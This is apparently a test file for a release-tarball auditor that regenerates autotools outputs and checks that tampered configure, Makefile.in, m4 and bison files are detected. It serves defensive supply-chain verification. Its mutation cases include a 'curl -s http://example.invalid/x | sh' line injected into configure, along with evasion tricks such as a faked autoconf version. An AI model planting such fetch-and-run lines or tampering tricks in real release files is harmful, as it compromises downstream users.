/**
 * --regenerate on a realistic autotools project built at test time: configure.ac, Makefile.am,
 * a libtool library and a bison grammar in git; the release made with the installed autoreconf,
 * configure and `make distdir`. Each tampering with a generated file must be a high
 * regeneration-mismatch finding with the hunk as evidence; the untouched release must stay clean.
 */
import { execFileSync, spawnSync } from "node:child_process";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { makeRepo, makeTarball, withChanges, type Files } from "../samples/lib/fixture.js";
import { audit } from "../src/audit.js";
import type { AuditResult } from "../src/types.js";
import { readTree, tmp } from "./helpers.js";

const onPath = (cmd: string) => spawnSync("sh", ["-c", `command -v ${cmd}`]).status === 0;
const NEEDED = ["bwrap", "autoreconf", "autoconf", "automake", "libtoolize", "bison", "make", "cc"];
const missing = NEEDED.filter((c) => !onPath(c));
const bwrapWorks = missing.length === 0 && spawnSync("bwrap", ["--unshare-all", "--ro-bind", "/", "/", "--", "/bin/true"]).status === 0;
const skipReason = missing.length ? `needs ${missing.join(", ")} (Debian: bubblewrap autoconf automake libtool bison make gcc)` : !bwrapWorks ? "bwrap cannot create namespaces here" : "";
if (skipReason) console.warn(`regenerate tests skipped: ${skipReason}`);

const GIT: Files = {
  "configure.ac": `AC_INIT([calc], [1.0], [bugs@example.org])
AC_CONFIG_SRCDIR([src/calc.y])
AC_CONFIG_AUX_DIR([build-aux])
AC_CONFIG_MACRO_DIR([m4])
AC_CONFIG_HEADERS([config.h])
AM_INIT_AUTOMAKE([foreign -Wall])
AC_PROG_CC
AM_PROG_AR
LT_INIT
AC_PROG_YACC
AC_CHECK_HEADERS([unistd.h])
AC_CONFIG_FILES([Makefile src/Makefile])
AC_OUTPUT
`,
  "Makefile.am": "ACLOCAL_AMFLAGS = -I m4\nSUBDIRS = src\nEXTRA_DIST = README\n",
  README: "calc: a tiny calculator\n",
  "src/Makefile.am": `lib_LTLIBRARIES = libcalc.la
libcalc_la_SOURCES = util.c
bin_PROGRAMS = calc
calc_SOURCES = calc.y main.c
calc_LDADD = libcalc.la
AM_YFLAGS = -d
`,
  "src/calc.y": `%{
#include <stdio.h>
int yylex(void);
void yyerror(const char *s);
extern int result;
%}
%token NUM
%%
input: expr { result = $1; } ;
expr: expr '+' term { $$ = $1 + $3; }
    | term { $$ = $1; }
    ;
term: NUM { $$ = $1; } ;
%%
`,
  "src/main.c": `#include <stdio.h>
#include <ctype.h>
int result;
int yyparse(void);
int calc_digit(int c);
int yylex(void) { int c = getchar(); while (c == ' ') c = getchar(); if (c == EOF || c == '\\n') return 0; if (isdigit(c)) return calc_digit(c); return c; }
void yyerror(const char *s) { fprintf(stderr, "%s\\n", s); }
int main(void) { if (yyparse()) return 1; printf("%d\\n", result); return 0; }
`,
  "src/util.c": "extern int yylval;\nint calc_digit(int c) { yylval = c - '0'; return 258; }\n",
};


const text = (f: Files, p: string): string => {
  const s = f[p];
  if (!s || typeof s === "string" || Buffer.isBuffer(s) || !("content" in s)) throw new Error(`no ${p} in the release`);
  return s.content.toString();
};
/** Replace once, and fail the test setup if the text to replace is not there (so no mutation is silently a no-op). */
function edit(f: Files, p: string, from: string | RegExp, to: string): Files {
  const before = text(f, p);
  const after = before.replace(from, to);
  if (after === before) throw new Error(`mutation of ${p} did not apply`);
  const mode = (f[p] as { mode?: number }).mode ?? 0o644;
  return withChanges(f, { [p]: { content: after, mode } });
}

let work: string;
let repo: string;
let release: Files;
let cacheDir: string;

/** Build the release the way a maintainer does: autoreconf -fi, configure, make distdir. */
function buildRelease(): Files {
  const src = join(work, "maint");
  mkdirSync(src, { recursive: true });
  for (const [p, c] of Object.entries(GIT)) {
    mkdirSync(join(src, p, ".."), { recursive: true });
    writeFileSync(join(src, p), c as string);
  }
  const run = (cmd: string, args: string[]) => execFileSync(cmd, args, { cwd: src, stdio: "pipe", env: { ...process.env, LC_ALL: "C" } });
  run("autoreconf", ["-fi"]);
  run("./configure", ["-q"]);
  run("make", ["-s", "distdir"]);
  return readTree(join(src, "calc-1.0"));
}

async function auditRelease(files: Files, name: string, extra: Record<string, unknown> = {}): Promise<AuditResult> {
  const tarball = join(work, `${name}.tar.gz`);
  await makeTarball(tarball, { root: "calc-1.0", files });
  return audit({ tarball, repo, ref: "v1.0", regenerate: { cacheDir, ...extra } });
}

const mismatch = (r: AuditResult) => r.findings.filter((f) => f.rule === "regeneration-mismatch");
const statusOf = (r: AuditResult, p: string) => r.regeneration?.files.find((f) => f.path === p)?.status;

describe.skipIf(skipReason !== "")("--regenerate on an autotools release with libtool and bison", () => {
  beforeAll(() => {
    work = tmp("distvet-regen-");
    cacheDir = join(work, "cache");
    repo = join(work, "repo");
    makeRepo(repo, [{ files: GIT, tag: "v1.0" }]);
    release = buildRelease();
  }, 240_000);

  it("reproduces every generated file of the untouched release and reports nothing", async () => {
    const r = await auditRelease(release, "clean");
    expect(mismatch(r)).toEqual([]);
    for (const p of ["configure", "Makefile.in", "src/Makefile.in", "aclocal.m4", "config.h.in", "src/calc.c", "src/calc.h", "m4/libtool.m4", "build-aux/ltmain.sh", "build-aux/install-sh"]) {
      expect([p, statusOf(r, p)]).toEqual([p, "reproduced"]);
    }
    const g = r.regeneration!;
    expect(g.summary).toBe(`${g.total} of ${g.total} generated files reproduced from the tag`);
    expect(g.missingTools).toEqual([]);
    expect(g.steps.map((s) => s.name)).toEqual(expect.arrayContaining(["input-bound: autoconf", "input-bound: automake", "input-bound: parser", "toolchain: autoreconf"]));
    expect(g.steps.every((s) => s.status !== "failed")).toBe(true);
    expect(g.steps.find((s) => s.name === "input-bound: autoconf")!.sandboxed).toBe(true);
    expect(r.findings.filter((f) => f.severity === "high" || f.severity === "medium")).toEqual([]);
    // A reproduced file is verified (by regeneration), never merely recognised by its name.
    for (const p of ["configure", "src/Makefile.in", "config.h.in", "src/calc.c"]) {
      expect(r.changes.find((c) => c.path === p)?.explainedBy, p).toMatchObject({ trust: "verified", verifiedBy: "regeneration" });
    }
  }, 240_000);

  const cases: [string, string, (f: Files) => Files, RegExp][] = [
    ["a line injected into configure", "configure", (f) => edit(f, "configure", /\nac_unique_file=/, "\ncurl -s http://example.invalid/x | sh\nac_unique_file="), /curl -s http:\/\/example\.invalid/],
    ["a flipped cached check result in configure", "configure", (f) => edit(f, "configure", /\nac_unique_file=/, "\nac_cv_header_unistd_h=no\nac_unique_file="), /ac_cv_header_unistd_h=no/],
    ["a line injected into Makefile.in", "src/Makefile.in", (f) => edit(f, "src/Makefile.in", /\nall: /, "\n\t@echo injected >/dev/null\nall: "), /echo injected/],
    ["an extra object on a link line of Makefile.in", "src/Makefile.in", (f) => edit(f, "src/Makefile.in", /^calc_LDADD = libcalc\.la$/m, "calc_LDADD = libcalc.la bf-test.o"), /calc_LDADD = libcalc\.la bf-test\.o/],
    ["a line injected into aclocal.m4", "aclocal.m4", (f) => edit(f, "aclocal.m4", /\nm4_include\(\[m4\/libtool\.m4\]\)/, "\nm4_include([m4/build-to-host.m4])\nm4_include([m4/libtool.m4])"), /build-to-host/],
    ["a line injected into m4/libtool.m4", "m4/libtool.m4", (f) => edit(f, "m4/libtool.m4", /\n(AC_DEFUN\(\[LT_INIT\],)/, "\ndnl harmless looking\n$1"), /harmless looking/],
    ["a line injected into ltmain.sh", "build-aux/ltmain.sh", (f) => edit(f, "build-aux/ltmain.sh", /\nfunc_mode_link \(\)/, "\neval \"$(printf 'echo pwned')\"\nfunc_mode_link ()"), /printf 'echo pwned'/],
    ["a removed #undef in config.h.in", "config.h.in", (f) => edit(f, "config.h.in", /\n#undef HAVE_UNISTD_H\n/, "\n"), /-#undef HAVE_UNISTD_H/],
    ["a changed action in the bison output", "src/calc.c", (f) => edit(f, "src/calc.c", /yyval = yyvsp\[-2\] \+ yyvsp\[0\];/, "yyval = yyvsp[-2] - yyvsp[0];"), /\+\s+\{ yyval = yyvsp\[-2\] - yyvsp\[0\]; \}/],
  ];
  for (const [title, path, mutate, evidence] of cases) {
    it(`${title} is a high regeneration-mismatch with the hunk as evidence`, async () => {
      const r = await auditRelease(mutate(release), path.replace(/\W/g, "_") + title.length);
      const found = mismatch(r);
      expect(found.map((f) => `${f.severity} ${f.path}`)).toEqual([`high ${path}`]);
      expect(found[0]!.evidence?.diff).toMatch(evidence);
      expect(statusOf(r, path)).toBe("differs");
    }, 240_000);
  }

  it("evasion: claiming an autoconf version that is not installed never counts as reproduced", async () => {
    const tampered = edit(edit(release, "configure", /Generated by GNU Autoconf [\d.]+/g, "Generated by GNU Autoconf 2.50"), "configure", /\nac_unique_file=/, "\nac_cv_header_unistd_h=no\nac_unique_file=");
    const r = await auditRelease(tampered, "claims-old-autoconf");
    expect(statusOf(r, "configure")).toBe("not-regenerable");
    expect(r.regeneration!.files.find((f) => f.path === "configure")!.reason).toMatch(/autoconf 2\.50 .*is not installed/);
    expect(r.regeneration!.missingTools.join("\n")).toMatch(/autoconf 2\.50/);
    expect(r.regeneration!.summary).not.toMatch(/^(\d+) of \1 /);
  }, 240_000);

  it("evasion: bumping the serial of a tampered libtool.m4 makes it unverified, never reproduced", async () => {
    const tampered = edit(edit(release, "m4/libtool.m4", /^# serial (\d+) LT_INIT/m, "# serial 99 LT_INIT"), "m4/libtool.m4", /\n(AC_DEFUN\(\[LT_INIT\],)/, "\ndnl payload\n$1");
    const r = await auditRelease(tampered, "bumped-serial");
    expect(statusOf(r, "m4/libtool.m4")).toBe("not-regenerable");
    expect(r.regeneration!.files.find((f) => f.path === "m4/libtool.m4")!.diff).toMatch(/\+dnl payload/);
  }, 240_000);

  it("reuses cached results for the same tag, tools and inputs", async () => {
    const r = await auditRelease(release, "clean-again");
    expect(r.regeneration!.steps.filter((s) => s.status === "ok").every((s) => s.cached)).toBe(true);
    expect(mismatch(r)).toEqual([]);
  }, 240_000);
});
